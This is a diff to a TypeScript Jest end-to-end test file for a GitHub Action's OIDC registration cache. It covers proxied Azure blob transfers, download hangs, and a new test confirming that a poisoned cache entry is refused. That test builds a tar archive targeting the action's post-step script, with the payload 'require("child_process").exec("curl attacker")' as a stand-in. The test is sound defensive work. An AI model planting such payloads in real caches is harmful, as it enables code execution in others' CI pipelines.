@@ -1,18 +1,21 @@
 // The registration cache end to end (issue 3): the bundled dist/index.js run as the runner runs it,
 // against the emulator (which counts RegisterClient calls) and the fake Actions cache service over
-// both protocols, with the real @actions/cache inside the bundle. Every run is approved by the
+// both protocols, with the real @actions/cache inside the bundle for saving. Every run is approved by the
 // emulator on its own shortly after the prompt, so what is checked is what the cache changes: how
 // many clients were registered, what the log says (at most one warning), how long the step took,
 // and that no secret reached the log, the outputs or the cache entries. v2 runs once more with its
-// blobs on Azure's host, so the bundled Azure SDK downloads them as on a hosted runner.
+// blobs on Azure's host, reached through HTTP_PROXY as on a hosted runner: the bundled Azure SDK
+// uploads them, the action's own restore downloads them. Poisoned entries (issue #12) are planted
+// into the fake and must be refused without a byte reaching the filesystem.
 import { afterEach, describe, expect, it } from '@jest/globals'
-import { copyFileSync, cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
+import { copyFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
-import { join } from 'node:path'
+import { dirname, join } from 'node:path'
 import type { EmulatorOptions } from '../../emulator/server.js'
 import { DEFAULT_RESTORE_TIMEOUT_MS, DEFAULT_SAVE_TIMEOUT_MS } from '../../src/registration/cache.js'
 import { registrationFilePath } from '../../src/registration/key.js'
-import { corruptEntry, entryDocument, openArchive } from '../cache/support.js'
+import { corruptEntry, entryDocument, openArchive, snapshotTree } from '../cache/support.js'
+import { libraryShapedTar, zstd } from '../cache/tar-builder.js'
 import {
   AZURE_BLOB_HOST,
   startCacheService,
@@ -53,8 +56,11 @@ interface World {
 // Closed after each test; tests that run concurrently close their own (an afterEach would close
 // the worlds of tests still running).
 const worlds: World[] = []
+/** Directories standing for what a poisoned archive aims at; removed after each test. */
+const targets: string[] = []
 afterEach(async () => {
   await Promise.all(worlds.splice(0).map((world) => world.close()))
+  for (const target of targets.splice(0)) rmSync(target, { recursive: true, force: true })
 })
 
 async function trackedWorld(protocol: CacheProtocol, emulatorOptions: EmulatorOptions = {}, blobHost?: BlobHost): Promise<World> {
@@ -365,10 +371,11 @@ describe.each<CacheProtocol>(['v2', 'v1'])('the registration cache through dist/
   }, 180_000)
 })
 
-describe("the registration cache through dist/ with v2 blobs on Azure's host: the Azure SDK download of a hosted runner", () => {
+describe("the registration cache through dist/ with v2 blobs on Azure's host, reached through HTTP_PROXY as on a hosted runner", () => {
   const blobRequests = (fake: FakeCacheService) => fake.requests.filter((request) => request.endpoint === 'upload' || request.endpoint === 'download')
+  const tunnels = (fake: FakeCacheService) => fake.requests.filter((request) => request.method === 'CONNECT').map(({ host, status }) => ({ host, status }))
 
-  it('run 2 restores with a HEAD and a ranged GET through the proxy, and zero RegisterClient calls', async () => {
+  it("run 2 restores with one plain GET through the proxy (the action's own download), and zero RegisterClient calls", async () => {
     const world = await trackedWorld('v2', {}, 'azure')
 
     const first = await world.gate()
@@ -379,41 +386,73 @@ describe("the registration cache through dist/ with v2 blobs on Azure's host: th
     expectApproved(second)
     expect(world.backend.emulator.counts.RegisterClient).toBe(1)
     expect(second.run.stdout).toMatch(new RegExp(`^Reusing the cached OIDC client registration ${clientIdOf(world.fake.entries[0]!)}, valid until `, 'm'))
-    const size = world.fake.entries[0]!.archive.length
+    // The library's save uploads through the proxy in absolute form; the action's restore tunnels
+    // (undici's proxy agent tunnels http targets too) and reads the whole blob with one GET.
     expect(blobRequests(world.fake).map(({ method, host, proxied, status, range }) => ({ method, host, proxied, status, range }))).toEqual([
       { method: 'PUT', host: AZURE_BLOB_HOST, proxied: true, status: 201, range: undefined },
-      { method: 'HEAD', host: AZURE_BLOB_HOST, proxied: true, status: 200, range: undefined },
-      { method: 'GET', host: AZURE_BLOB_HOST, proxied: true, status: 206, range: `bytes=0-${size - 1}` }
+      { method: 'GET', host: AZURE_BLOB_HOST, proxied: true, status: 200, range: undefined }
     ])
+    expect(tunnels(world.fake)).toEqual([{ host: `${AZURE_BLOB_HOST}:80`, status: 200 }])
     // Only the blob host went through the proxy (anything else would have met a 502): the Twirp
     // calls went direct, and so did every AWS call, or the emulator would not have approved.
-    const others = world.fake.requests.filter((request) => !blobRequests(world.fake).includes(request))
+    const others = world.fake.requests.filter((request) => !blobRequests(world.fake).includes(request) && request.method !== 'CONNECT')
     expect(others.every((request) => !request.proxied && request.twirpMethod !== undefined && request.status === 200)).toBe(true)
     expectMaskedBeforeUse(second.run, world.secrets().clientSecret!, 'clientSecret')
     expectNothingLeaked(world, [first, second], { plainSecrets: true })
   })
 
-  // The SDK's own per-try timeout is the restore's bound too; the action's deadline must end the
-  // wait wherever the download stops: at its HEAD, or at the ranged GET after a good HEAD.
-  it.concurrent.each<[string, CacheFault]>([
-    ['its HEAD', { kind: 'hang' }],
-    ['its ranged GET', { kind: 'hang', method: 'GET' }]
-  ])('a download that hangs at %s is given up within the restore bound', async (_where, fault) => {
-    const world = await createWorld('v2', {}, 'azure')
-    try {
-      const faulty = await expectFaultBounded(world, 'download', fault, RESTORE_BOUND_MS)
-      expect(otherWarnings(faulty.run)[0]).toBe(`The Actions cache did not answer within ${DEFAULT_RESTORE_TIMEOUT_MS / 1000} s; a new client will be registered.`)
-      // Only the faulty run downloaded (the first found the cache empty). Never answered: status 0;
-      // the SDK may have retried before the step ended, with the same fate.
-      const downloads = world.fake.requests.filter((request) => request.endpoint === 'download').map(({ method, status }) => `${method} ${status}`)
-      const hung = fault.method === 'GET' ? downloads.slice(1) : downloads
-      if (fault.method === 'GET') expect(downloads[0]).toBe('HEAD 200')
-      expect(hung.length).toBeGreaterThan(0)
-      expect(new Set(hung)).toEqual(new Set([`${fault.method ?? 'HEAD'} 0`]))
-    } finally {
-      await world.close()
-    }
+  // The action's deadline must end the wait, and the request, wherever the download stops.
+  it('a download that hangs is given up within the restore bound', async () => {
+    const world = await trackedWorld('v2', {}, 'azure')
+    const faulty = await expectFaultBounded(world, 'download', { kind: 'hang' }, RESTORE_BOUND_MS)
+    expect(otherWarnings(faulty.run)[0]).toBe(`The Actions cache did not answer within ${DEFAULT_RESTORE_TIMEOUT_MS / 1000} s; a new client will be registered.`)
+    // Only the faulty run downloaded (the first found the cache empty): one GET, never answered.
+    const downloads = world.fake.requests.filter((request) => request.endpoint === 'download').map(({ method, status }) => `${method} ${status}`)
+    expect(downloads).toEqual(['GET 0'])
   }, 120_000)
+})
+
+describe('a poisoned registration cache entry through dist/ (issue #12)', () => {
+  it.each<[CacheProtocol, BlobHost | undefined]>([
+    ['v2', undefined],
+    ['v1', undefined],
+    ['v2', 'azure']
+  ])(
+    "over %s (blob host %s): an archive aimed at the action's own dist/post/index.js is refused in memory, one warning, a fresh registration",
+    async (protocol, blobHost) => {
+      const world = await trackedWorld(protocol, {}, blobHost)
+      expectApproved(await world.gate())
+      const genuine = world.fake.entries[0]!
+      // What the attacker aims at, in a directory of the test's own: with @actions/cache restoring,
+      // `tar -xf … -P` would have written the archive's absolute path.
+      const target = mkdtempSync(join(tmpdir(), 'poison-target-'))
+      targets.push(target)
+      const postStep = join(target, 'dist', 'post', 'index.js')
+      mkdirSync(dirname(postStep), { recursive: true })
+      writeFileSync(postStep, '// the action: its post step revokes the token\n')
+      const before = snapshotTree(target)
+      // Newer than the genuine entry under the same prefix and version: the one a restore gets. (Not
+      // a key a registration could take: the run's own save must not meet it.)
+      const key = `${genuine.key}-planted`
+      world.fake.seedEntry({ key, version: genuine.version, archive: zstd(libraryShapedTar(postStep, 'require("child_process").exec("curl attacker")')) })
+      await nextSecond()
+
+      const poisoned = await world.gate()
+
+      expectApproved(poisoned, 1)
+      expect(snapshotTree(target)).toEqual(before)
+      expect(otherWarnings(poisoned.run)[0]).toBe(
+        `Ignoring the cached OIDC client registration ${key}: the cache entry is not one this action wrote (the archive holds a file other than the registration); ` +
+          "a new client will be registered. If this repeats, someone may be writing to this repository's Actions cache: see SECURITY.md."
+      )
+      expect(world.backend.emulator.counts.RegisterClient).toBe(2)
+      // Nothing of the archive landed in the job's HOME either: only what the action itself writes.
+      expect(existsSync(join(poisoned.job.home, 'dist'))).toBe(false)
+      expect(committed(world.fake)).toHaveLength(3)
+      expectNothingLeaked(world, [poisoned], { plainSecrets: true })
+    },
+    120_000
+  )
 })
 
 describe('the registration cache: @actions/cache stays unloaded unless needed', () => {
@@ -451,10 +490,11 @@ describe('the registration cache: @actions/cache stays unloaded unless needed', 
       job.dispose()
     }
 
-    // The control: with the service there, the missing chunk is noticed (one warning), and the gate still approves.
+    // The control: with the service there, the restore (the action's own, no chunk needed) looks
+    // up, and the save notices the missing chunk (one warning); the gate still approves.
     const on = await world.gate({}, { action })
     expectApproved(on, 1)
-    expect(otherWarnings(on.run)[0]).toMatch(/Actions cache/)
-    expect(world.fake.requests).toEqual([])
+    expect(otherWarnings(on.run)[0]).toMatch(/^Could not save the OIDC client registration to the Actions cache/)
+    expect(world.fake.requests.map((request) => request.endpoint)).toEqual(['lookup'])
   })
 })
